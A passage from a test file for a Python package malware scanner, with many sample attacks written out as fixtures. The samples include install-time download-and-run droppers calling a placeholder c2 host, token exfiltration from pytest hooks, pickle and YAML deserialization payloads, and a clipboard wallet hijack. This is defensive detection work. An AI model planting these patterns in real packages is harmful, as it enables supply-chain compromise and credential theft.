        "    for name in PRIVATE:\n        pass\n"
        "    for name in PUBLIC:\n        eval(name)\n",
    ),
    (
        "decorator-whose-wrapper-does-the-work-later",
        "import socket, subprocess\n"
        "def _load():\n"
        "    socket.gethostbyname_ex(socket.gethostname())\n"
        "    subprocess.Popen(['ip', 'addr'])\n"
        "def _requires(f):\n"
        "    def wrapped(*a):\n        _load()\n        return f(*a)\n"
        "    return wrapped\n"
        "@_requires\ndef local_ips():\n    return []\n",
    ),
    (
        "instance-metadata-credential-chain",
        "import json, urllib.request\n"
        "IMDS = 'http://169.254.169.254'\n"
        "def from_imds():\n"
        "    base = f'{IMDS}/latest/meta-data/iam/security-credentials/'\n"
        "    role = urllib.request.urlopen(base).read().decode()\n"
        "    return json.load(urllib.request.urlopen(urllib.request.Request(base + role)))\n",
    ),
    (
        "netrc-credentials-for-the-requested-host",
        "import netrc, os, urllib.parse, urllib.request\n"
        "def get(url):\n"
        "    host = urllib.parse.urlsplit(url).hostname\n"
        "    entry = netrc.netrc(os.path.expanduser('~/.netrc')).authenticators(host)\n"
        "    req = urllib.request.Request(url)\n"
        "    if entry:\n"
        "        req.add_header('Authorization', entry[2])\n"
        "    return urllib.request.urlopen(req).read()\n",
    ),
    (
        "terminal-multiplexer-library",
        "import subprocess\n"
        "def new_session(name, cmd):\n"
        "    subprocess.run(['tmux', 'new-session', '-d', '-s', name, cmd])\n",
    ),
    (
        "pip-configuration-read",
        "import configparser, os\n"
        "def index_url():\n"
        "    cp = configparser.ConfigParser()\n"
        "    cp.read(os.path.expanduser('~/.config/pip/pip.conf'))\n"
        "    return cp.get('global', 'index-url', fallback=None)\n",
    ),
    (
        "service-discovery-in-a-function",
        "import json, urllib.request\n"
        "def token(issuer):\n"
        "    conf = json.load(urllib.request.urlopen(issuer + '/.well-known/openid-configuration'))\n"
        "    return urllib.request.urlopen(conf['token_endpoint'], data=b'grant_type=x').read()\n",
    ),
    (
        "bytecode-cache-of-a-template-engine",
        "import marshal, os\n"
        "CACHE = os.path.join(os.path.expanduser('~'), '.cache', 't')\n"
        "def _code(src):\n"
        "    path = os.path.join(CACHE, 'k.tc')\n"
        "    try:\n"
        "        with open(path, 'rb') as f:\n"
        "            return marshal.loads(f.read())\n"
        "    except OSError:\n"
        "        return compile(src, '<t>', 'exec')\n"
        "def render(src):\n"
        "    ns = {}\n"
        "    exec(_code(src), ns)\n"
        "    return ns\n",
    ),
    (
        "start-with-windows-setting",
        "import sys, winreg\n"
        "KEY = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
        "def set_autostart(enabled):\n"
        "    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, KEY, 0, winreg.KEY_SET_VALUE) as k:\n"
        "        if enabled:\n"
        "            winreg.SetValueEx(k, 'App', 0, winreg.REG_SZ, sys.executable)\n"
        "        else:\n"
        "            winreg.DeleteValue(k, 'App')\n",
    ),
    (
        "api-client-sending-its-own-token",
        "import urllib.request\n"
        "class Client:\n"
        "    def get(self, url):\n"
        "        req = urllib.request.Request(url, headers={'Authorization': self.token})\n"
        "        return urllib.request.urlopen(req).read()\n",
    ),
    (
        "template-engine-exec-of-generated-code",
        "def compile_template(src):\n"
        "    code = ''.join(line for line in src.splitlines())\n"
        "    ns = {}\n"
        "    exec(compile(code, '<template>', 'exec'), ns)\n"
        "    return ns\n",
    ),
    (
        "telemetry-with-host-details-to-the-vendors-https-api",
        "import platform, requests\n"
        "def report():\n"
        "    requests.post('https://telemetry.example.invalid/v1/events',"
        " json={'os': platform.platform()})\n",
    ),
]


@pytest.mark.parametrize(("source",), [t[1:] for t in LOOKALIKES], ids=[t[0] for t in LOOKALIKES])
def test_lookalike_stays_below_high(source: str) -> None:
    rules = found(source)
    assert all(sev not in ("high", "critical") for sev in rules.values()), rules


def test_pickle_opcodes_name_their_callables_without_unpickling() -> None:
    class Payload:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (os.system, ("echo inert",))

    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        assert pickle_callables(pickle.dumps(Payload(), protocol=protocol))
    assert pickle_callables(pickle.dumps({"weights": [1.0, 2.0], "name": "system"})) == []
    assert pickle_callables(b"\x80\x05garbage") == []
    blob = base64.b64encode(pickle.dumps(Payload(), protocol=4)).decode()
    rules = found(f"import base64, dill\n_s = dill.loads(base64.b64decode({blob!r}))\n")
    assert "obfuscation.marshal-literal" in rules


def _write(tmp_path: Path, built: tuple[str, bytes]) -> Path:
    path = tmp_path / built[0]
    path.write_bytes(built[1])
    return path


def test_module_imported_by_setup_py_runs_at_install_time(tmp_path: Path) -> None:
    helper = (
        "import os, urllib.request\n"
        "def prepare():\n"
        "    exe = '/tmp/prep'\n"
        "    urllib.request.urlretrieve('https://c2.example.invalid/prep', exe)\n"
        "    os.chmod(exe, 0o755)\n"
        "    os.system(exe)\n"
    )
    setup = "from setuptools import setup\nimport _helpers\n_helpers.prepare()\nsetup(name='d')\n"
    path = _write(tmp_path, build_sdist("d", "1.0", {"_helpers.py": helper}, setup_py=setup))
    result = scan_target(path)
    assert result.verdict == "malicious"
    assert any(
        f.rule == "download-execute.drop-and-run" and f.file == "d-1.0/_helpers.py"
        for f in result.findings
    )
    # The same module not imported by setup.py is a tool's function, not an install hook:
    # not malicious. (It still starts the very file it downloaded, its digest unchecked:
    # high where the user calls it, so the rules judge it suspicious.)
    setup = "from setuptools import setup\nsetup(name='d')\n"
    path = _write(tmp_path, build_sdist("d", "1.1", {"_helpers.py": helper}, setup_py=setup))
    assert scan_target(path, model=False).verdict == "suspicious"
    assert scan_target(path).verdict != "malicious"


def test_versioneer_style_helper_imported_by_setup_py_stays_clean(tmp_path: Path) -> None:
    helper = (
        "import subprocess\n"
        "def get_version():\n"
        "    return subprocess.check_output(['git', 'describe', '--tags']).decode()\n"
    )
    setup = (
        "from setuptools import setup\nimport versioneer\n"
        "setup(name='d', version=versioneer.get_version())\n"
    )
    path = _write(tmp_path, build_sdist("d", "1.0", {"versioneer.py": helper}, setup_py=setup))
    assert scan_target(path).verdict == "clean"


ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 64


def test_native_module_imported_by_a_pure_wheel_is_high(tmp_path: Path) -> None:
    so = "sx/_speedups.cpython-311-x86_64-linux-gnu.so"
    path = _write(
        tmp_path,
        build_wheel("sx", "1.0", {"sx/__init__.py": "from ._speedups import *\n", so: ELF}),
    )
    result = scan_target(path)
    assert result.verdict == "suspicious"
    assert any(f.file == so and f.severity == Severity.HIGH for f in result.findings)
    # Imported only as an optional accelerator (inside try): a stray binary, medium.
    optional = "try:\n    from ._speedups import *\nexcept ImportError:\n    pass\n"
    path = _write(tmp_path, build_wheel("sx", "1.1", {"sx/__init__.py": optional, so: ELF}))
    result = scan_target(path)
    assert [f.severity.label for f in result.findings if f.file == so] == ["medium"]


PYC = b"\xa7\r\r\n" + bytes(12) + b"\xe3\x00 os system echo inert"


def test_bytecode_shipped_without_source() -> None:
    assert found_bytes(PYC, "pkg/loader.pyc") == {"obfuscation.bytecode-only": "high"}
    # pip's own compile cache is not shipped code to review.
    assert found_bytes(PYC, "pkg/__pycache__/loader.cpython-311.pyc") == {}
    assert found_bytes(bytes(PYC[:16]) + b"\xe3 constants", "pkg/data.pyc") == {
        "obfuscation.bytecode-only": "medium"
    }


def found_bytes(data: bytes, name: str) -> dict[str, str]:
    return {
        f.rule: f.severity.label for f in analyse_member(FileContext(name, "wheel", True), data)
    }


def test_data_files_that_run_code_when_loaded(tmp_path: Path) -> None:
    class Payload:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (os.system, ("echo inert",))

    evil = pickle.dumps(Payload(), protocol=2)
    rule = "unsafe-deserialization.malicious-file"
    assert rule in found_bytes(evil, "pkg/weights.pkl")
    assert rule in found_bytes(evil, "pkg/anything")  # protocol 2+ is recognised by its header
    assert found_bytes(pickle.dumps({"w": [1.0]}, protocol=2), "pkg/weights.pkl") == {}
    yaml_evil = b"a: 1\nb: !!python/object/apply:os.system ['echo inert']\n"
    assert rule in found_bytes(yaml_evil, "pkg/defaults.yaml")
    # mkdocs-style name tags point at ordinary functions.
    yaml_ok = b"emoji_index: !!python/name:material.extensions.emoji.twemoji\n"
    assert found_bytes(yaml_ok, "pkg/mkdocs.yml") == {}
    # A torch-style checkpoint: a zip whose data.pkl calls builtins.exec.
    import zipfile
    from io import BytesIO

    class Exec:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (exec, ("print('inert')",))

    buf = BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", pickle.dumps(Exec(), protocol=2))
        z.writestr("archive/version", "3")
    assert rule in found_bytes(buf.getvalue(), "pkg/detector.pt")
    # A data file that is really a zip holding a Windows executable.
    pe = b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(32)
    buf = BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("weights/meta.json", "{}")
        z.writestr("weights/update.exe", pe)
    assert found_bytes(buf.getvalue(), "pkg/model.dat") == {"binary-dropper.embedded": "high"}
    # The archive reader hands these files over far enough to see inside.
    path = _write(
        tmp_path, build_wheel("m", "1.0", {"m/__init__.py": "", "m/model.dat": buf.getvalue()})
    )
    assert scan_target(path).verdict == "suspicious"


def test_functions_called_on_import_count_as_import_time(tmp_path: Path) -> None:
    body = (
        "import os, subprocess, tempfile, urllib.request\n"
        "def install_fonts():\n"
        "    p = os.path.join(tempfile.gettempdir(), 'f.exe')\n"
        "    urllib.request.urlretrieve('https://c2.example.invalid/f', p)\n"
        "    subprocess.Popen([p])\n"
    )
    # Same module: called from module level.
    assert found(body + "install_fonts()\n")["download-execute.drop-and-run"] == "critical"
    # Only defined (a tool's function): high, not critical (it starts the very file it
    # downloaded, unchecked: test_running_the_downloaded_file_itself).
    assert found(body)["download-execute.drop-and-run"] == "high"
    # Another module of the package calls it when imported.
    init = "from ._res import install_fonts\ninstall_fonts()\n"
    path = _write(tmp_path, build_wheel("pf", "1.0", {"pf/__init__.py": init, "pf/_res.py": body}))
    result = scan_target(path)
    assert result.verdict == "malicious"
    assert any(f.file == "pf/_res.py" and f.severity == Severity.CRITICAL for f in result.findings)
    # A dispatch table naming the function does not run it.
    table = body + "HANDLERS = {'fonts': install_fonts}\n"
    assert found(table)["download-execute.drop-and-run"] == "high"


def test_running_the_downloaded_file_itself() -> None:
    """A function that starts the very file it downloaded (its program, the script a
    Windows script host runs, os.startfile) without checking its digest is a dropper even
    when only the user calls it; a download next to an unrelated process, a downloaded
    archive handed to tar, or a binary checked against its hash stay medium."""
    fetch = (
        "import hashlib, os, subprocess, tempfile, requests, urllib.request\n"
        "def get(url):\n"
        "    r = requests.get(url)\n"
        "    p = os.path.join(tempfile.gettempdir(), os.path.basename(url))\n"
        "    with open(p, 'wb') as f:\n"
        "        f.write(r.content)\n"
    )
    rule = "download-execute.drop-and-run"
    high = {
        "program": "    subprocess.run([p])\n",
        "str-path": "    subprocess.run([str(p)], check=True)\n",
        "script-host": "    subprocess.run(['cscript', '//nologo', p])\n",
        "startfile": "    os.startfile(p)\n",
        "whole-command": "    os.system(p)\n",
        "command-line": "    os.system(f'{p} /quiet')\n",
    }
    for name, run in high.items():
        assert found(fetch + run)[rule] == "high", name
    medium = {
        "archive": "    subprocess.run(['tar', 'xf', p])\n",
        "archive-command": "    os.system(f'unzip {p}')\n",
        "unrelated": "    subprocess.run(['git', 'status'])\n",
        "hash-checked": (
            "    if hashlib.sha256(open(p, 'rb').read()).hexdigest() != DIGEST:\n"
            "        raise ValueError(p)\n"
            "    subprocess.run([p, '--version'])\n"
        ),
    }
    for name, run in medium.items():
        assert found(fetch + run)[rule] == "medium", name
    # urlretrieve's destination, run by a script host, as a downloaded .vbs would be.
    retrieve = (
        "import subprocess, urllib.request\n"
        "def go(url, filename='d.vbs'):\n"
        "    urllib.request.urlretrieve(url, filename)\n"
        "    subprocess.run(['wscript', filename])\n"
    )
    assert found(retrieve)[rule] == "high"


def test_module_imported_by_a_pth_file_is_startup_code(tmp_path: Path) -> None:
    audit = (
        "import sys, urllib.request\n"
        "def _hook(event, args):\n"
        "    if event == 'open':\n"
        "        urllib.request.urlopen('https://c2.example.invalid/v', data=repr(args).encode())\n"
        "sys.addaudithook(_hook)\n"
    )
    files = {"pt/__init__.py": "", "pt/_audit.py": audit, "pt.pth": "import pt._audit\n"}
    result = scan_target(_write(tmp_path, build_wheel("pt", "1.0", files)))
    assert result.verdict == "malicious"
    assert any(
        f.rule == "startup-hook.sitecustomize-payload" and f.file == "pt/_audit.py"
        for f in result.findings
    )
    # The same module without the .pth: a library function, not startup code.
    del files["pt.pth"]
    result = scan_target(_write(tmp_path, build_wheel("pt", "1.1", files)))
    assert result.verdict == "clean"


def test_in_tree_build_backend_runs_at_install_time(tmp_path: Path) -> None:
    backend = (
        "import os, subprocess\n"
        "from setuptools import build_meta as _orig\n"
        "build_wheel = _orig.build_wheel\n"
        "def get_requires_for_build_wheel(config_settings=None):\n"
        "    subprocess.run(['curl', '-fsSL', 'https://c2.example.invalid/b.sh', '-o', '/tmp/b'])\n"
        "    subprocess.Popen(['/bin/sh', '/tmp/b'])\n"
        "    return []\n"
    )
    pyproject = (
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\n'
        'backend-path = ["."]\n'
    )
    files = {"backend.py": backend, "pyproject.toml": pyproject, "x/__init__.py": ""}
    result = scan_target(_write(tmp_path, build_sdist("x", "1.0", files)))
    assert result.verdict == "malicious"
    assert any(f.rule == "download-execute.drop-and-run" for f in result.findings)


def test_wheel_script_named_like_a_system_command(tmp_path: Path) -> None:
    files = {"gx/__init__.py": "", "gx-1.0.data/scripts/git": '#!/bin/sh\nexec /usr/bin/git "$@"\n'}
    result = scan_target(_write(tmp_path, build_wheel("gx", "1.0", files)))
    assert "persistence.command-shadow" in {f.rule for f in result.findings}
    files = {"gx/__init__.py": "", "gx-1.0.data/scripts/gx-sync": "#!/bin/sh\necho sync\n"}
    result = scan_target(_write(tmp_path, build_wheel("gx", "1.1", files)))
    assert result.verdict == "clean"


def test_commands_inside_a_native_binary_of_a_pure_wheel(tmp_path: Path) -> None:
    so = "sx/_speedups.cpython-311-x86_64-linux-gnu.so"
    blob = ELF + b"PyInit__speedups\0curl -s https://c2.example.invalid/x|sh\0"
    optional = "try:\n    from ._speedups import dumps\nexcept ImportError:\n    dumps = None\n"
    result = scan_target(
        _write(tmp_path, build_wheel("sx", "1.0", {"sx/__init__.py": optional, so: blob}))
    )
    assert result.verdict == "malicious"


def test_pytest_hooks_in_a_shipped_conftest_run_in_every_session() -> None:
    src = (
        "import os, urllib.request\n"
        "def pytest_configure(config):\n"
        "    found = {k: os.environ[k] for k in ('GITHUB_TOKEN', 'PYPI_API_TOKEN') if k in os.environ}\n"
        "    urllib.request.urlopen('https://c2.example.invalid/gh', data=repr(found).encode())\n"
    )
    assert found(src, "conftest.py")["exfiltration.credentials"] == "critical"
    fixture = "import pytest\n@pytest.fixture\ndef token():\n    return 'x'\n"
    assert found(fixture, "conftest.py") == {}


def test_numpy_object_array_with_a_pickled_payload() -> None:
    class Exec:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (exec, ("print('inert')",))

    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - len(header)) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header
    rule = "unsafe-deserialization.malicious-file"
    assert rule in found_bytes(npy + pickle.dumps([Exec()], protocol=2), "pkg/table.npy")
    assert found_bytes(npy + pickle.dumps(["ok"], protocol=2), "pkg/table.npy") == {}


def test_base64_wrapped_pickle_shipped_as_a_cache_file() -> None:
    class Payload:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (os.popen, ("echo inert",))

    blob = base64.b64encode(pickle.dumps(Payload(), protocol=4))
    rule = "unsafe-deserialization.malicious-file"
    assert rule in found_bytes(blob, "pkg/_pipeline_cache.b64")
    assert found_bytes(base64.b64encode(pickle.dumps([1, 2], protocol=4)), "pkg/c.b64") == {}


def test_function_of_the_package_init_called_from_a_submodule_on_import(tmp_path: Path) -> None:
    init = (
        "import subprocess, urllib.request\n"
        "def boot():\n"
        "    urllib.request.urlretrieve('https://c2.example.invalid/b', '/tmp/b')\n"
        "    subprocess.Popen(['/tmp/b'])\n"
    )
    sub = "from . import boot\nboot()\n"
    files = {"pb/__init__.py": init, "pb/sub.py": sub}
    result = scan_target(_write(tmp_path, build_wheel("pb", "1.0", files)))
    assert any(
        f.rule == "download-execute.drop-and-run"
        and f.file == "pb/__init__.py"
        and f.severity == Severity.CRITICAL
        for f in result.findings
    )


def test_secrets_passed_to_a_sibling_module_on_import(tmp_path: Path) -> None:
    plugin = (
        "import os\nfrom ._report import flush\n"
        "def pytest_configure(config):\n"
        "    flush({k: v for k, v in os.environ.items() if 'TOKEN' in k})\n"
    )
    report = (
        "import json, urllib.request\n"
        "def flush(stats):\n"
        "    urllib.request.urlopen('https://c2.example.invalid/s', data=json.dumps(stats).encode())\n"
    )
    files = {"ps/__init__.py": "", "ps/plugin.py": plugin, "ps/_report.py": report}
    result = scan_target(_write(tmp_path, build_wheel("ps", "1.0", files)))
    assert result.verdict == "malicious"
    assert any(
        f.rule == "exfiltration.credentials" and f.file == "ps/_report.py" for f in result.findings
    )
    # The same helper given nothing secret: a reporting library.
    files["ps/plugin.py"] = plugin.replace(
        "{k: v for k, v in os.environ.items() if 'TOKEN' in k}", "{'n': 1}"
    )
    assert scan_target(_write(tmp_path, build_wheel("ps", "1.1", files))).verdict == "clean"


def test_setuptools_hook_entry_points_run_in_every_build(tmp_path: Path) -> None:
    hook = (
        "import os\n"
        "LINE = \"__import__('urllib.request').request.urlopen('https://c2.example.invalid/i')\\n\"\n"
        "def finalize(dist):\n"
        "    for pkg in dist.packages or []:\n"
        "        with open(os.path.join(pkg, '__init__.py'), 'a') as f:\n"
        "            f.write(LINE)\n"
    )
    eps = "[setuptools.finalize_distribution_options]\ngl = gl.hooks:finalize\n"
    files = {"gl/__init__.py": "", "gl/hooks.py": hook, "gl-1.0.dist-info/entry_points.txt": eps}
    result = scan_target(_write(tmp_path, build_wheel("gl", "1.0", files)))
    assert result.verdict == "malicious"
    # Not registered as a hook: a code generator the user calls.
    del files["gl-1.0.dist-info/entry_points.txt"]
    assert scan_target(_write(tmp_path, build_wheel("gl", "1.1", files))).verdict == "clean"


def test_hatch_build_hook_runs_at_install_time(tmp_path: Path) -> None:
    hook = (
        "import subprocess, urllib.request\n"
        "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
        "class Hook(BuildHookInterface):\n"
        "    def initialize(self, version, build_data):\n"
        "        urllib.request.urlretrieve('https://c2.example.invalid/h', '/tmp/.h')\n"
        "        subprocess.Popen(['/tmp/.h'])\n"
    )
    pyproject = (
        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
        "[tool.hatch.build.hooks.custom]\n"
    )
    files = {"hatch_build.py": hook, "pyproject.toml": pyproject, "x/__init__.py": ""}
    result = scan_target(_write(tmp_path, build_sdist("x", "1.0", files)))
    assert result.verdict == "malicious"
    assert any(
        f.rule == "download-execute.drop-and-run" and f.severity == Severity.CRITICAL
        for f in result.findings
    )
    files["pyproject.toml"] = pyproject.replace("[tool.hatch.build.hooks.custom]\n", "")
    result = scan_target(_write(tmp_path, build_sdist("x", "1.1", files)))
    assert not any(f.severity == Severity.CRITICAL for f in result.findings)


def test_compressed_pickle_is_read_without_unpickling() -> None:
    import gzip

    payload = b"cnt\nsystem\n(S'echo pipwarden-test'\ntR."
    for name, data in (
        ("pkg/data/sample.pkl.gz", gzip.compress(payload)),
        ("pkg/data/sample.gz", gzip.compress(b"\x80\x02" + payload)),
    ):
        found_rules = {f.rule for f in analyse_member(FileContext(name, "wheel", True), data)}
        assert "unsafe-deserialization.malicious-file" in found_rules, name
    benign = gzip.compress(pickle.dumps({"open": [1.0, 2.0]}, protocol=2))
    assert analyse_member(FileContext("pkg/data/ok.pkl.gz", "wheel", True), benign) == []
    # A truncated or corrupt stream is data, not an error.
    assert analyse_member(FileContext("pkg/x.pkl.gz", "wheel", True), b"\x1f\x8b\x08garbage") == []


def test_clipboard_swapped_through_a_sibling_module(tmp_path: Path) -> None:
    """A module matching wallet addresses reads and writes the clipboard through a
    sibling's helpers: the swap is one module's, its clipboard calls another's."""
    clip = (
        "import pyperclip\ndef get():\n    return pyperclip.paste()\n"
        "def put(text):\n    pyperclip.copy(text)\n"
    )
    swap = (
        "import re\nfrom .clip import get, put\n"
        "BTC = re.compile(r'^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$')\n"
        "def watch():\n    if BTC.match(get()):\n        put('bc1-attacker-address-placeholder')\n"
    )
    files = {"ws/__init__.py": "", "ws/clip.py": clip, "ws/swap.py": swap}
    result = scan_target(_write(tmp_path, build_wheel("ws", "1.0", files)))
    assert any(
        f.rule == "clipboard.wallet-hijack"
        and f.file == "ws/swap.py"
        and "through a sibling module" in f.message
        for f in result.findings
    ), result.findings
    # The same helpers, used by a module that names no wallet address: a clipboard tool.
    files["ws/swap.py"] = "from .clip import get, put\ndef shout():\n    put(get().upper())\n"
    result = scan_target(_write(tmp_path, build_wheel("ws", "1.1", files)))
    assert not any(f.rule == "clipboard.wallet-hijack" for f in result.findings)


def test_native_library_in_a_pure_wheel_imported_on_load(tmp_path: Path) -> None:
    """A native library in a wheel that says it is pure is raised to high when the
    package's module-level code imports it: it runs on import."""
    elf = b"\x7fELF\x02\x01\x01" + bytes(64)
    files: dict[str, str | bytes] = {"nw/__init__.py": "x = 1\n", "nw/_fast.so": elf}
    quiet = scan_target(_write(tmp_path, build_wheel("nw", "1.0", files)))
    [plain] = [f for f in quiet.findings if f.rule == "binary-dropper.native-in-pure-wheel"]
    assert plain.severity == Severity.MEDIUM
    files["nw/__init__.py"] = "from . import _fast\n"
    loud = scan_target(_write(tmp_path, build_wheel("nw", "1.1", files)))
    [loaded] = [f for f in loud.findings if f.rule == "binary-dropper.native-in-pure-wheel"]
    assert loaded.severity == Severity.HIGH
    assert loaded.message.endswith("imported by the package's module-level code")


def test_endpoint_in_a_file_that_is_not_python(tmp_path: Path) -> None:
    """A paste site named in a .py file valid neither as Python 3 nor 2 is high, as if
    contacted (what the file does with it cannot be read); a raw IP stays as declared."""
    broken = "def f(:\n    U = '{}'\n"
    paste = analyse_member(
        FileContext("pkg/mod.py", "wheel", True),
        broken.format("https://pastebin.com/raw/abc").encode(),
    )
    [hit] = [f for f in paste if f.rule == "suspicious-endpoint.paste-site"]
    assert hit.severity == Severity.HIGH and "not valid Python" in hit.message
    raw = analyse_member(
        FileContext("pkg/mod.py", "wheel", True), broken.format("http://8.8.4.4/x").encode()
    )
    [ip] = [f for f in raw if f.rule == "suspicious-endpoint.raw-ip"]
    assert ip.severity == Severity.LOW
